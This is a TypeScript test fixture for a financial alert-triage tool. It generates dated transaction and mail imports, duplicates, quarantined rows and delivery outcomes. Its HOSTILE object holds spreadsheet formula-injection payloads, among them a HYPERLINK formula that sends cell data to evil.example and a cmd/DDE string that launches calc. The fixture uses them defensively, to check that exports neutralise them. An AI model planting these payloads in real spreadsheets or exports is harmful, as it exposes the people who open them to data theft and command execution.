// A database with a few days of history, made by the real engine: each import runs executeRun over real files
// with the clock set to the import time (only Date is faked), so alerts are triaged on different days,
// with two rule sets, duplicates, quarantined rows and cells written to attack a spreadsheet.
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { vi } from 'vitest'
import { defaultSettings, type Settings } from '../../src-main/core/config/index.js'
import { loadRuleSet, type RuleSet } from '../../src-main/core/classify/index.js'
import { executeRun, explicitFiles } from '../../src-main/core/run.js'
import { SqliteStore } from '../../src-main/store/sqlite/index.js'

export const ROOT = resolve(import.meta.dirname, '../..')
export const tempDir = (prefix = 'triage-report-') => mkdtempSync(join(tmpdir(), prefix))

const HEADER = 'txn_id,customer_id,amount,currency,country,txn_type,risk_score,created_at,branch'
const COUNTRIES = ['GB', 'DE', 'IR', 'US', 'PA', 'FR', 'NG', 'SG']
const TYPES = ['wire', 'card', 'cash', 'sepa', 'crypto']

/** Spreadsheet-formula payloads that must come out of every CSV neutralised. */
export const HOSTILE = {
  txn: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  customer: '@SUM(A1:A9)',
  branch: "+cmd|' /C calc'!A0",
  subject: '-2+3 wire to "Acme"',
  message: '\t=1+1'
}

export interface ImportSpec {
  /** The clock during the import (when the alerts are triaged). */
  at: string
  rows: number
  /** Rows repeated in the same file (duplicates). */
  duplicates?: number
  /** Rows with a bad amount (quarantined). */
  bad?: number
  hostile?: boolean
  mail?: boolean
  rules?: 'default' | 'extended'
}

function csvCell(s: string): string {
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s
}

function transactions(tag: string, spec: ImportSpec): string {
  const at = Date.parse(spec.at)
  const lines = [HEADER]
  for (let i = 1; i <= spec.rows; i++) {
    // Most alerts are triaged within minutes; every fourth waits up to 48 h, so every severity has alerts on
    // both sides of its SLA target.
    const delayMin = i % 4 ? (i * 13) % 12 : (i * 7919) % 2880
    const created = new Date(at - delayMin * 60_000 - (i % 60) * 1000).toISOString()
    lines.push(
      [
        `T${tag}${String(i).padStart(5, '0')}`,
        `C${(i * 31) % 997}`,
        ((i * 1237) % 90_000).toFixed(2),
        'USD',
        COUNTRIES[i % 8]!,
        TYPES[i % 5]!,
        String((i * 37) % 101),
        created,
        csvCell(i % 3 ? 'London' : 'Zurich, CH')
      ].join(',')
    )
  }
  for (let i = 1; i <= (spec.duplicates ?? 0); i++) lines.push(lines[i]!)
  for (let i = 1; i <= (spec.bad ?? 0); i++) lines.push(`B${tag}${i},C1,12O${i}.00,USD,GB,wire,10,${spec.at},London`)
  if (spec.hostile) {
    lines.push(
      [csvCell(HOSTILE.txn), HOSTILE.customer, '5000.00', 'USD', 'GB', 'wire', '95', new Date(at - 3600_000).toISOString(), csvCell(HOSTILE.branch)].join(',')
    )
  }
  return `${lines.join('\n')}\n`
}

function mailbox(tag: string, spec: ImportSpec): string {
  const at = Date.parse(spec.at)
  const hints = ['critical', 'high', 'medium', 'low', null]
  const mails: unknown[] = []
  for (let i = 1; i <= 12; i++)
    mails.push({
      message_id: `<${tag}.${i}@vendor.example>`,
      vendor: 'alerts@vendor.example',
      subject: `Screening alert ${tag}-${i}`,
      body: `Customer C${i}. Line one\r\nline two.`,
      severity_hint: hints[i % 5],
      created_at: new Date(at - ((i * 211) % 2000) * 60_000).toISOString()
    })
  if (spec.hostile)
    mails.push({
      message_id: HOSTILE.message,
      vendor: null,
      subject: HOSTILE.subject,
      body: 'x',
      severity_hint: 'high',
      created_at: new Date(at - 60_000).toISOString()
    })
  mails.push({ message_id: `<${tag}.bad@vendor.example>`, vendor: null, subject: '', body: 'no subject', severity_hint: null, created_at: spec.at })
  return JSON.stringify(mails, null, 2)
}

/** Imports in order, each at its own time. Returns the store (open) and the files written. */
export async function buildHistory(dbPath: string, imports: ImportSpec[], s: Settings = defaultSettings()): Promise<SqliteStore> {
  const dir = tempDir('triage-history-')
  const store = new SqliteStore(dbPath)
  const rules: Record<string, RuleSet> = {
    default: loadRuleSet(join(ROOT, 'resources/rules/default.yaml')),
    extended: loadRuleSet(join(ROOT, 'resources/rules/example-extended.yaml'))
  }
  vi.useFakeTimers({ toFake: ['Date'] })
  try {
    for (const [n, spec] of imports.entries()) {
      vi.setSystemTime(new Date(spec.at))
      const tag = `${n + 1}`
      const files = [join(dir, `transactions-${tag}.csv`)]
      writeFileSync(files[0]!, transactions(tag, spec))
      if (spec.mail) {
        files.push(join(dir, `mail-${tag}.json`))
        writeFileSync(files[1]!, mailbox(tag, spec))
      }
      const summary = await executeRun(
        { store, settings: s, ruleSet: rules[spec.rules ?? 'default']!, trigger: 'test', parallel: 'never' },
        explicitFiles(files)
      )
      if (summary.status !== 'ok') throw new Error(`import ${tag} failed: ${summary.errors.join('; ')}`)
    }
  } finally {
    vi.useRealTimers()
  }
  return store
}

/** Four days of history around a reporting period of 2026-11-02 to 2026-11-05 (UTC days, inclusive). */
export const STANDARD_HISTORY: ImportSpec[] = [
  { at: '2026-11-01T10:00:00.000Z', rows: 30 }, // before the period: the pack's anchor is not the genesis hash
  { at: '2026-11-02T09:00:00.000Z', rows: 120, duplicates: 6, bad: 3, hostile: true },
  { at: '2026-11-03T12:00:00.000Z', rows: 80, mail: true, duplicates: 4, hostile: true },
  { at: '2026-11-05T23:30:00.000Z', rows: 60, bad: 2, rules: 'extended' },
  { at: '2026-11-06T00:30:00.000Z', rows: 20, duplicates: 2, bad: 1 } // after the period
]
export const PERIOD_ARGS = ['2026-11-02', '2026-11-05'] as const
export const PERIOD = { from: '2026-11-02T00:00:00.000Z', to: '2026-11-06T00:00:00.000Z' }

/**
 * Delivery outcomes as the dispatcher (issue 5) records them: some deliveries dead with their attempts and a
 * fallback, some failed and retrying, some sent. Written with SQL so the report's figures can be checked
 * without running the senders.
 */
export function recordDeliveryOutcomes(store: SqliteStore): void {
  const db = store.db
  const rows = db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{
    entry_id: number
    destination: string
  }>
  const attempt = db.prepare(`INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error)
    VALUES (?, ?, ?, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', ?, ?)`)
  const fallback = db.prepare(`INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
    VALUES (?, ?, 'email', 'email:compliance-leads', 'Slack webhook kept failing (HTTP 500)', '2026-11-05T10:30:00.000Z')`)
  const set = db.prepare('UPDATE deliveries SET status = ?, attempts = ? WHERE entry_id = ? AND destination = ?')
  db.transaction(() => {
    rows.forEach((r, i) => {
      if (i % 11 === 0 && r.destination.startsWith('slack:')) {
        for (let a = 1; a <= 3; a++) attempt.run(r.entry_id, r.destination, a, a === 3 ? 'dead' : 'retry', 'HTTP 500')
        set.run('dead', 3, r.entry_id, r.destination)
        fallback.run(r.entry_id, r.destination)
      } else if (i % 7 === 0) {
        attempt.run(r.entry_id, r.destination, 1, 'retry', 'connection refused')
        set.run('failed', 1, r.entry_id, r.destination)
      } else if (i % 5 === 0) {
        attempt.run(r.entry_id, r.destination, 1, 'sent', null)
        set.run('sent', 1, r.entry_id, r.destination)
      }
    })
  })()
}
